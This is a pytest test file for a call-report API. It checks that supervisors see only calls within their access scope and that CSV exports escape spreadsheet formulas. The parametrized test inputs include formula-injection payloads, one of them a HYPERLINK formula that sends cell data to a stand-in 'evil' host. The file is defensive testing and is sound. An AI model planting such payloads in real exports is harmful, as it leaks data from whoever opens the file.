"""Reports and tables: of nobody's calls but one's own, and nothing in them that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest

from engine.access.role import Role
from engine.api.app import create_app
from engine.drill import Ask, Report, reported
from tests.engine.access.stand import standing
from tests.engine.api_node import SETTINGS, Node
from tests.engine.test_api import Client
from tests.engine.test_api_matrix import People

PATHS = [
    "/v1/reports/calls?by=agent",
    "/v1/reports/calls.csv?by=agent",
    "/v1/reports/calls?by=queue&market=us",
]


class Keyed(Node):
    """Reports whose one row has that name."""

    def __init__(self, key: str) -> None:
        super().__init__()
        self.key = key
        self.asked_of: list[Ask] = []

    def report(self, ask: Ask) -> Report:
        self.asked_of.append(ask)
        return reported(ask, [((self.key,) * len(ask.by), {"offered": 1.0})])


@pytest.fixture(scope="module")
def people(tmp_path_factory: pytest.TempPathFactory) -> Iterator[People]:
    with standing(tmp_path_factory.mktemp("reports")) as stand:
        yield People(stand)


@pytest.mark.parametrize("path", PATHS)
def test_a_report_is_of_what_is_within_reach_whatever_is_asked_for(people: People, path: str) -> None:
    node = people.app.state.view = Keyed("support")
    wished: list[tuple[Role, str, str, str, Any]] = [
        (Role.SUPERVISOR, limit, "GET", path, None) for limit in ("all", "de", "north")
    ]
    assert {answer.status_code for answer in people.ask(wished)} == {200}
    seen = [ask.within.sees_call("us", "sales", "carol") for ask in node.asked_of]
    own = [ask.within.sees_call("de", "support", "alice") for ask in node.asked_of]
    assert seen == [True, False, False] and all(own)


@pytest.mark.parametrize(
    "name",
    ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", '=HYPERLINK("http://evil/?"&A1)'],
)
def test_no_name_is_a_formula_in_a_table(name: str) -> None:
    answer = Client(create_app(Keyed(name), SETTINGS))("GET", "/v1/reports/calls.csv?by=agent")
    _, row = csv.reader(io.StringIO(answer.text, newline=""))
    assert row[0] == f"'{name}"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "attachment" in answer.headers["content-disposition"]
